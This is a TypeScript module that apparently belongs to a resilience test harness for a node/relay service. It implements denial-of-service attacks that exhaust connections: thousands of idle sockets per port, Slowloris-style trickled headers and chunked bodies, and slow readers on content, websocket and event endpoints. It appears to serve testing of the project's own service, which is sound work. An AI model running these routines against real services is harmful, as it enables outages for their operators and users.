/** Attacks that only hold on: to sockets, to calls that do not end, to answers that are not read. */
import { type Attack, type Report, type Scene, sleep } from './order.ts';
import { openSocket, type RawSocket, sourceAddress } from './raw-socket.ts';

const SILENT_SOCKETS = 3_000;
const TRICKLING_SOCKETS = 200;
const SLOW_READERS = 30;
const EVENT_READERS = 120;
const BATCH = 50;
const BREATH_MS = 20;
const TRICKLE_MS = 500;
const ANSWERED_MS = 2_000;

/** Whether something came, or it was let in at least. */
type IsReached = (socket: RawSocket) => Promise<boolean> | boolean;

interface Hold {
  readonly port: number;
  readonly from: () => string;
  readonly count: number;
  /** Sent at once. */
  readonly first: () => string;
  /** Sent bit by bit, again and again. */
  readonly trickle?: string;
  readonly isReached: IsReached;
  readonly reads: boolean;
}

/** Holds so many sockets until the time is up; one that is cut is replaced. */
async function hold({ port, from, count, first, trickle, isReached, reads }: Hold, signal: AbortSignal): Promise<Report> {
  const open = new Set<RawSocket>();
  let [tried, reached] = [0, 0];
  const trickling =
    trickle === undefined
      ? undefined
      : setInterval(() => {
          for (const { socket } of open) if (socket.writable) socket.write(trickle);
        }, TRICKLE_MS);
  const openOne = async (): Promise<void> => {
    const one = await openSocket(port, from());
    tried++;
    if (!one.isOpen) return;
    one.socket.write(first());
    open.add(one);
    one.socket.once('close', () => open.delete(one));
    one.socket.once('end', () => one.socket.destroy());
    if (await isReached(one)) reached++;
    if (!reads) one.socket.pause();
  };
  const checks: Promise<void>[] = [];
  while (!signal.aborted) {
    const missing = Math.min(BATCH, count - open.size);
    if (missing > 0) checks.push(...Array.from({ length: missing }, openOne));
    await sleep(BREATH_MS);
  }
  clearInterval(trickling);
  await Promise.all(checks);
  for (const { socket } of open) socket.destroy();
  return { tried, reached };
}

async function together(holds: readonly Hold[], signal: AbortSignal): Promise<Report> {
  const reports = await Promise.all(holds.map((one) => hold(one, signal)));
  const sum = (field: keyof Report) => reports.reduce((all, report) => all + report[field], 0);
  return { tried: sum('tried'), reached: sum('reached') };
}

const isOpen: IsReached = (socket) => socket.isOpen;
const portsOf = ({ doors }: Scene) => doors.flatMap(({ port }) => port ?? []);
const portOf = (origin: string) => Number(new URL(origin).port);

/** Sockets that say nothing, thousands of one address at every port. */
export const silentSockets: Attack = async ({ scene, random, signal }) => {
  const from = sourceAddress(random);
  const holds = portsOf(scene).map(
    (port): Hold => ({ port, from: () => from, count: SILENT_SOCKETS, first: () => '', isReached: isOpen, reads: true }),
  );
  return () => together(holds, signal);
};

/** Heads and bodies that come byte by byte, without a token and with one. */
export const trickledCalls: Attack = async ({ scene, random, signal }) => {
  const { nodeOrigin, relayOrigin, listenPort, groupId, token } = scene;
  const one = (port: number, first: () => string, trickle: string, count = TRICKLING_SOCKETS): Hold => ({
    port,
    from: () => sourceAddress(random),
    count,
    first,
    trickle,
    isReached: isOpen,
    reads: true,
  });
  const head = 'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Long: ';
  const body = (path: string, line: string) => (): string =>
    `POST ${path} HTTP/1.1\r\nHost: node.example\r\nX-Forwarded-For: 203.0.113.${random.int(250)}\r\nContent-Type: application/json\r\n${line}Transfer-Encoding: chunked\r\n\r\n`;
  const node = portOf(nodeOrigin);
  const space = '1\r\n \r\n';
  const bearer = `Authorization: Bearer ${token}\r\n`;
  const holds = [
    one(node, () => head, 'a'),
    one(listenPort, () => head, 'a'),
    one(portOf(relayOrigin), () => head, 'a'),
    one(node, body('/api/v1/restore', ''), space),
    one(node, body(`/api/v1/group/${groupId}/content`, bearer), space, 60),
  ];
  return () => together(holds, signal);
};

const asked = (scene: Scene, path: string, more = ''): string =>
  `GET ${path} HTTP/1.1\r\nHost: node.example\r\nX-Forwarded-For: 203.0.113.9\r\nAuthorization: Bearer ${scene.token}\r\n${more}\r\n`;

/** Readers with a token who ask for the most that there is, several times each, and do not read it. */
export const slowReaders: Attack = async ({ scene, random, signal }) => {
  const call = asked(scene, `/app/api/v1/group/${scene.groupId}/content?num=500`);
  const holds: Hold[] = [
    {
      port: portOf(scene.nodeOrigin),
      from: () => sourceAddress(random),
      count: SLOW_READERS,
      first: () => call.repeat(4),
      isReached: isOpen,
      reads: false,
    },
  ];
  return () => together(holds, signal);
};

/** Readers of events, sockets and streams, who do not read. */
export const eventReaders: Attack = async ({ scene, random, signal }) => {
  const upgrade =
    'Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';
  const calls = [asked(scene, '/api/v1/ws/trx', upgrade), asked(scene, '/api/v1/events')];
  const holds = calls.map(
    (call): Hold => ({
      port: portOf(scene.nodeOrigin),
      from: () => sourceAddress(random),
      count: EVENT_READERS / calls.length,
      first: () => call,
      isReached: async (socket) => {
        await socket.until('HTTP/1.1', ANSWERED_MS);
        return /HTTP\/1\.1 (101|200)/.test(socket.received());
      },
      reads: false,
    }),
  );
  return () => together(holds, signal);
};
